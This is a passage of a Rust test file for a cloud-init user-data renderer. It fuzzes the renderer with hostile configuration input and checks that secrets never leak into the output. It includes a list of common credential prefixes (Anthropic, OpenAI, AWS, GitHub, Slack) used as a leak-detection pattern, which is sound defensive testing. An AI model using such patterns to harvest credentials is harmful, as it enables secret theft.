                        control_plane_url,
                        admin_ssh_cidrs,
                        acme_email,
                    },
                    fqdn,
                )
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(768))]

    /// Whatever the inputs, the result is either InvalidInput or a document with exactly the
    /// baseline's structure: the same keys everywhere, the same files with the same paths and
    /// permissions, the same commands.
    #[test]
    fn hostile_input_cannot_change_the_structure((config, fqdn) in hostile_config()) {
        let baseline = parse(&render(&self::config(), FQDN).unwrap());
        match render(&config, &fqdn) {
            Err(Error::InvalidInput { field, .. }) => {
                prop_assert!(
                    field == "fqdn" || field.starts_with("cloud_init."),
                    "unexpected field {field}"
                );
            }
            Err(other) => prop_assert!(false, "unexpected error {other}"),
            Ok(rendered) => {
                prop_assert!(rendered.len() <= MAX_USER_DATA_BYTES);
                let mut doc = parse(&rendered);
                // The firewall's commands grow with the admin networks, each in the one shape.
                let bootcmd = firewall_networks(&doc);
                prop_assert_eq!(bootcmd.len(), config.admin_ssh_cidrs.len());
                for network in bootcmd {
                    prop_assert!(network.contains('/') && !network.contains(char::is_whitespace));
                }
                let mut base = baseline.clone();
                doc["bootcmd"] = Value::Null;
                base["bootcmd"] = Value::Null;
                prop_assert_eq!(shape(&doc), shape(&base));
                prop_assert_eq!(&doc["runcmd"], &baseline["runcmd"]);
                prop_assert_eq!(&doc["packages"], &baseline["packages"]);
                for (file, base) in doc["write_files"].as_sequence().unwrap().iter()
                    .zip(baseline["write_files"].as_sequence().unwrap())
                {
                    prop_assert_eq!(&file["path"], &base["path"]);
                    prop_assert_eq!(&file["permissions"], &base["permissions"]);
                    prop_assert_eq!(&file["owner"], &base["owner"]);
                }
                // The accepted values landed where they belong, verbatim.
                let caddyfile = content(&doc, "/etc/caddy/Caddyfile");
                let site_line = format!("\n{fqdn} {{\n");
                prop_assert!(caddyfile.contains(&site_line));
                let json: serde_json::Value = serde_json::from_str(
                    content(&doc, "/var/lib/openclaw/.openclaw/openclaw.json"),
                ).unwrap();
                let origin = format!("https://{fqdn}");
                prop_assert_eq!(
                    json["gateway"]["controlUi"]["allowedOrigins"][0].as_str(),
                    Some(origin.as_str())
                );
                let version_line = format!("version='{}'\n", config.openclaw_version);
                prop_assert!(content(&doc, "/usr/local/sbin/openclaw-install-gateway").contains(&version_line));
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Secrets

#[test]
fn the_only_secret_is_the_bootstrap_token() {
    let rendered = render(&config(), FQDN).unwrap();
    let token = token();
    assert_eq!(rendered.matches(token.expose()).count(), 1);
    let (instance_part, mac_part) = token.expose().split_once('.').unwrap();
    // The agent's pinned checksum is public: the control plane serves the agent to anyone.
    let agent_sha256 = openclaw_core::agent_script_sha256(&config()).unwrap();
    // So are the release pins: Node's tarball's SHA-256 and npm's integrity of OpenClaw's.
    let integrity = openclaw_core::cloud_init::DEFAULT_OPENCLAW_INTEGRITY;
    let public = |word: &str| {
        word == agent_sha256
            || word == openclaw_core::cloud_init::DEFAULT_NODE_SHA256_X64
            || (word.len() == 128 && word.bytes().all(|b| b.is_ascii_hexdigit()))
            || integrity.contains(word)
    };
    // Nothing else long and random-looking: every run of 20 or more letters and digits that
    // has a digit in it (every generated token or key of that length has, all but certainly)
    // belongs to the bootstrap token.
    for word in rendered.split(|c: char| !c.is_ascii_alphanumeric()) {
        if word.len() >= 20 && word.chars().any(|c| c.is_ascii_digit()) {
            assert!(
                word == instance_part || mac_part.contains(word) || public(word),
                "unexpected secret-looking word {word:?}"
            );
        }
    }
    assert!(!rendered.contains(key().to_base64().expose()));
    assert!(!rendered.contains("OPENCLAW_GATEWAY_TOKEN="));
    for prefix in ["sk-ant-", "sk-proj-", "sk-", "AKIA", "ghp_", "xoxb-"] {
        assert!(!rendered.contains(prefix), "{prefix}");
    }
    // The result is wrapped, so it cannot be logged by accident.
    let wrapped = render_user_data(&config(), instance(), FQDN, &token).unwrap();
    let shown = format!("{wrapped:?} {token:?}");
    assert!(!shown.contains(mac_part), "{shown}");
}

#[test]
fn debug_output_hides_key_material() {
    let bytes = [0xABu8; 32];
    let key = BootstrapKey::from_bytes(bytes);
    let shown = format!("{key:?} {:?}", Some(&key));
    assert_eq!(
        shown,
        "BootstrapKey([redacted]) Some(BootstrapKey([redacted]))"
    );
    assert!(!shown.contains("171") && !shown.to_lowercase().contains("ab, "));
    assert!(!shown.contains(key.to_base64().expose()));
    assert!(!format!("{:?}", key.to_base64()).contains(key.to_base64().expose()));

    // The config holds nothing secret; its Debug is complete but carries no key or token.
    let shown = format!("{:?}", config());
    assert!(shown.contains("panel.example.com"));
    assert!(!shown.contains(key.to_base64().expose()));
    assert!(!shown.contains(token().expose()));
}
